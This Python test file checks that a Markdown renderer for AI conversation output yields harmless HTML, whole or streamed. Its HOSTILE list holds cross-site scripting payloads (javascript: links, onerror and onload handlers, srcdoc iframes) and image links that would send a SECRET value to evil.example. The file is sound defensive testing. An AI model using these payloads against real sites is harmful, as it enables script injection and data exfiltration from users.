"""Markdown of a model becomes harmless HTML, streamed or whole."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations.markdown import CELL_LIMIT
from conversations.rendering import LONG_TAIL, MARKDOWN_LIMIT, BlockStream, Part, render

ALLOWED_TAGS = frozenset(
    "p br hr h3 h4 h5 h6 ul ol li blockquote pre code span em strong s a div table thead tbody tr th td".split(" ")
)
ALLOWED_ATTRIBUTES = frozenset({"href", "title", "rel", "class", "start", "tabindex"})

HOSTILE = [
    "[x](javascript:alert(1))",
    "[x]( JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/p)",
    "[x](/admin/)",
    '[x](https://h/"onmouseover="alert(1))',
    '<https://h/"onmouseover="alert(1)>',
    '[x](https://h "a\\" onmouseover=\\"alert(1)")',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import url(https://evil.example/)</style>",
    "![a](https://evil.example/p?d=SECRET)",
    "![a][r]\n\n[r]: https://evil.example/p?d=SECRET",
    "[![a](https://evil.example/p)](javascript:alert(1))",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "- [x] <input onfocus=alert(1) autofocus>",
    "a\n\n<scr",
    "<!-- --!><script>alert(1)</script>",
]

DOCUMENTS = [
    "",
    "plain",
    "# Title\n\nText with **bold** and `code`.\n\n- one\n- two\n\n  more\n\n1. a\n2. b\n",
    "para\n---\nafter\n\n***\n\n> quote\nlazy\n",
    "| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\n\nafter the table",
    "```python\ndef f():\n    return '''\n\n# no heading\n'''\n```\n\ndone",
    "~~~\nnever closed\n\n# still code\n",
    "    indented\n\n    code\n\ntext\r\nwith\rother line ends\r\n\r\nend",
    "see [a] and [b][c]\n\n[a]: https://one.example/address\n\nlater [a]\n\n[c]: https://two.example/ 'title'\n\nlast",
    "- [ ] open\n- [x] done\n\n~~gone~~ \u2028 \x0c \x85 end\n",
    "* a\n\n      deep code\n* b\n+ c\n\n\n\n    - d\n",
]


class Inventory(HTMLParser):
    """Lists the tags, attributes and addresses of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.schemes: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.schemes.update(urlsplit(value or "").scheme for name, value in attrs if name == "href")

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    found = Inventory(html)
    assert found.tags <= ALLOWED_TAGS
    assert found.attributes <= ALLOWED_ATTRIBUTES
    assert found.schemes <= {"http", "https", "mailto"}


def applied(parts: list[Part], shown: dict[int, str] | None = None) -> dict[int, str]:
    shown = {} if shown is None else shown
    for part in parts:
        shown[part.part] = part.html
    return shown


def streamed(text: str, size: int) -> dict[int, str]:
    stream, shown = BlockStream(), dict[int, str]()
    for at in range(0, len(text), size):
        stream.feed(text[at : at + size])
        applied(stream.tick(), shown)
    applied(stream.finish(), shown)
    return shown


def joined(shown: dict[int, str]) -> str:
    return "".join(html for _, html in sorted(shown.items()))


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_dangerous_survives(source: str) -> None:
    """B74, B75, B76."""
    assert_harmless(render(source))


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_dangerous_shows_at_any_step_of_a_stream(source: str) -> None:
    """B75: half a tag is no tag."""
    stream = BlockStream()
    for letter in source:
        stream.feed(letter)
        for part in stream.tick():
            assert_harmless(part.html)
    for part in stream.finish():
        assert_harmless(part.html)


markup = st.lists(
    st.sampled_from(
        [*HOSTILE, "<", ">", '"', "](", "[", "javascript:", "&#106;", "\n", "\n\n", "`", "```", "|", "- ", "<a href="]
    ),
    max_size=25,
).map("".join)


@given(markup)
@settings(max_examples=150)
def test_nothing_dangerous_survives_in_any_mixture(source: str) -> None:
    """B74, B75, B76."""
    assert_harmless(render(source))


def test_a_picture_is_a_link_and_never_fetched() -> None:
    """B76."""
    html = render("![a map](https://evil.example/p?d=1)")

    assert "<img" not in html
    assert ">Picture: a map</a>" in html


def test_links_open_without_a_way_back() -> None:
    assert 'rel="noopener noreferrer nofollow ugc"' in render("[x](https://example.org)")


def test_code_is_coloured_by_classes() -> None:
    html = render("```python\nreturn 1\n```")

    assert '<code class="language-python"><span class="k">return</span>' in html
    assert "style=" not in html


def test_an_unknown_language_is_plain_code() -> None:
    assert render("```klingon\n<b>\n```") == (
        '<pre tabindex="0"><code class="language-klingon">&lt;b&gt;\n</code></pre>\n'
    )


def test_table_cells_are_aligned_by_classes() -> None:
    html = render("| a |\n|--:|\n| 1 |")

    assert '<th class="align-right">a</th>' in html
    assert '<td class="align-right">1</td>' in html


def test_headings_begin_below_those_of_the_page() -> None:
    assert render("# a\n\n###### b") == "<h3>a</h3>\n<h6>b</h6>\n"


def test_tasks_have_boxes() -> None:
    html = render("- [ ] open\n- [x] done")

    assert "☐</span> open" in html
    assert "☑</span> done" in html


def test_deep_nesting_is_survived() -> None:
    """B73."""
    assert_harmless(render("> " * 5_000 + "deep" + "\n\n" + "[" * 5_000))


def test_text_beyond_the_limit_is_kept_as_written() -> None:
    html = render("x" * MARKDOWN_LIMIT + "**kept** <b>")

    assert html.endswith('<pre class="as-written" tabindex="0">**kept** &lt;b&gt;</pre>\n')


@pytest.mark.parametrize("size", [1, 3, 7, 1000])
@pytest.mark.parametrize("document", DOCUMENTS)
def test_a_streamed_text_ends_as_the_whole_text(document: str, size: int) -> None:
    shown = streamed(document, size)

    assert joined(shown) == render(document)


pieces = st.lists(
    st.sampled_from(
        [
            "word ",
            "\n",
            "\n\n",
            "# ",
            "- ",
            "1. ",
            "> ",
            "    ",
            "```",
            "```\n",
            "| a | b |\n|---|---|\n",
            "| c |\n",
            "---\n",
        ]
        + [
            "**",
            "`",
            "[x]",
            "\n\n[x]: https://x.example\n\n",
            "\r\n",
            "\r",
            "\u2028",
            "<b>",
            "===\n",
            "~~~\n",
            "* ",
            "  ",
        ]
    ),
    max_size=40,
).map("".join)


@given(pieces, st.integers(1, 30))
@settings(max_examples=300)
def test_any_streamed_text_ends_as_the_whole_text(document: str, size: int) -> None:
    shown = streamed(document, size)

    assert joined(shown) == render(document)


def test_a_streamed_text_beyond_the_limit_ends_as_the_whole_text() -> None:
    document = ("word " * 20 + "\n\n") * (MARKDOWN_LIMIT // 101) + "tail\n\n" + "more " * LONG_TAIL
    shown = streamed(document, 50_000)

    assert len(document) > MARKDOWN_LIMIT + LONG_TAIL
    assert joined(shown) == render(document)


def a_table(columns: int, row: str, rows: int) -> str:
    return "|" + "a|" * columns + "\n|" + "-|" * columns + "\n" + row * rows


def cells(html: str) -> int:
    return html.count("<th") - html.count("<thead") + html.count("<td")


def test_a_table_with_short_rows_has_no_more_cells_than_characters() -> None:
    """The parser would make 65,000 cells of each table, 200,000,000 in all."""
    document = (a_table(250, "|\n", 264) + "\n") * 3
    html = render(document * 40)

    assert cells(render(document)) <= len(document)
    assert cells(html) <= CELL_LIMIT
    assert html.endswith("|</p>\n")


def test_a_table_has_all_the_cells_that_were_written() -> None:
    row = "||||||||||\n"
    assert cells(render(a_table(10, row, CELL_LIMIT // 10 - 1) + "\nafter")) == CELL_LIMIT


def test_rows_beyond_the_limit_are_text_in_any_number_of_tables() -> None:
    html = render((a_table(10, "|b|b|b|b|b|b|b|b|b|b|\n", 150) + "\n") * 4 + "| small |\n|---|\n")

    assert cells(html) == CELL_LIMIT
    assert "<p>|b|b|b|" in html
    assert "| small |\n|---|" in html


def test_tables_in_quotes_and_lists_count_too() -> None:
    rows = a_table(10, "|b|b|b|b|b|b|b|b|b|b|\n", 300).splitlines()
    html = render("".join(f"> {row}\n" for row in rows) + "\n- " + "\n  ".join(rows))

    assert cells(html) == CELL_LIMIT


@pytest.mark.parametrize(
    "document",
    [
        ("see [x]\n\n" + a_table(30, "|[x]|\n", 9) + "# h\n" + a_table(7, "|b|b|b|b|[x]|b|b|\n", 230) + "\n") * 4
        + "[x]: https://x.example\n",
        (a_table(9, "|b|b|b|b|b|b|b|b|b|\n", 150) + "> |a|a|a|\n> |-|-|-|\n" + "> |b|\n" * 50 + "\n") * 4,
    ],
)
@pytest.mark.parametrize("size", [1_009, 100_000])
def test_streamed_tables_end_at_the_same_rows_as_in_the_whole_text(document: str, size: int) -> None:
    whole = render(document)

    assert CELL_LIMIT - 30 < cells(whole) <= CELL_LIMIT
    assert joined(streamed(document, size)) == whole


@given(pieces, st.integers(1, 30), st.integers(0, 12))
@settings(max_examples=150)
def test_any_streamed_text_ends_at_its_limit_as_the_whole_text(document: str, size: int, limit: int) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("conversations.markdown.CELL_LIMIT", limit)
        shown = joined(streamed(document, size))

        assert shown == render(document)
        assert cells(shown) <= limit


def test_a_finished_block_is_sent_once_and_the_tail_again() -> None:
    stream = BlockStream()
    stream.feed("one\n\ntwo\n")
    assert stream.tick() == [Part(0, "<p>one</p>\n", True), Part(1, "<p>two</p>\n", False)]

    stream.feed("and a half")
    assert stream.tick() == [Part(1, "<p>two\nand a half</p>\n", False)]
    assert stream.finish() == [Part(1, "<p>two\nand a half</p>\n", True)]


def test_a_tick_without_news_says_nothing() -> None:
    stream = BlockStream()
    assert stream.tick() == []
    stream.feed("word")
    assert stream.tick() != []

    assert stream.tick() == []
    stream.finish()
    assert stream.finish() == []
    assert stream.tick() == []


def test_a_tail_that_turns_out_to_be_nothing_is_taken_away() -> None:
    stream = BlockStream()
    stream.feed("[a]:")
    assert stream.tick() == [Part(0, "<p>[a]:</p>\n", False)]

    stream.feed(" https://a.example")
    assert stream.tick() == [Part(0, "", False)]


def test_a_link_reference_is_not_taken_from_a_line_that_is_still_being_written() -> None:
    shown = streamed("[known]: https://known.example\n\nsee [a]\n\n[a]: https://a.example/whole\n\nend [a]", 1)

    assert joined(shown).count('href="https://a.example/whole"') == 2


def test_an_open_code_block_waits_for_its_colours() -> None:
    """Colouring costs too much to be done at every tick."""
    stream = BlockStream()
    stream.feed("```python\nreturn 1\n")
    (draft,) = stream.tick()
    stream.feed("```\n")
    (final,) = stream.finish()

    assert "<span" not in draft.html
    assert '<span class="k">return</span>' in final.html


def test_a_long_open_block_is_not_sent_for_every_word() -> None:
    stream, sent = BlockStream(), 0
    text = "word " * 20_000
    for at in range(0, len(text), 50):
        stream.feed(text[at : at + 50])
        sent += sum(len(part.html) for part in stream.tick())

    assert sent < 25 * len(text)


def test_the_rest_of_a_long_open_block_shows_when_the_writer_pauses() -> None:
    stream = BlockStream()
    stream.feed("word " * LONG_TAIL)
    stream.tick()
    stream.feed("last")
    assert stream.tick() == []

    (part,) = stream.tick()
    assert "last" in part.html


@pytest.mark.parametrize("hostile", ["```make\n" + "a" * 19_000 + "\n```", "- [ ] a\n" * 12_000, "[x] " * 40_000])
def test_what_is_made_to_be_slow_is_drawn_in_a_moment(hostile: str) -> None:
    started = time.process_time()
    render(hostile)
    assert time.process_time() - started < 15


def test_a_picture_is_a_link_unless_it_stands_in_one() -> None:
    html = render("![a](https://b) [![c](https://d) e](https://f) ![g](https://h)")
    assert html.count("<a ") == 3
    assert html.index('href="https://f"') < html.index("Picture: c") < html.index('href="https://h"')


def test_many_pictures_cost_no_more_than_their_number() -> None:
    """A picture looked through all that stood before it: seconds for an answer of a few thousand."""
    began = time.process_time()
    html = render("![](a)" * 4_000 + "[![b](c)](d)")
    assert time.process_time() - began < 5
    assert html.count("<a ") == 4_001


@pytest.mark.parametrize("broken", ["MarkdownIt.parse", "highlight"])
def test_what_cannot_be_rendered_is_shown_as_it_is_written(monkeypatch: pytest.MonkeyPatch, broken: str) -> None:
    """A fault in a parser or lexer costs the looks of a text, and neither its words nor the page."""

    def fails(*_: object, **__: object) -> None:
        raise RecursionError("too deep")

    monkeypatch.setattr(f"conversations.markdown.{broken}", fails)
    document = "# One\n\n```python\nif a < b:\n    pass\n```\n\nthe <end>\n"
    shown = streamed(document, 4)

    for html in (joined(shown), render(document)):
        assert_harmless(html)
        assert [word in Inventory(html).text for word in ("One", "if a < b:", "the <end>")] == [True] * 3
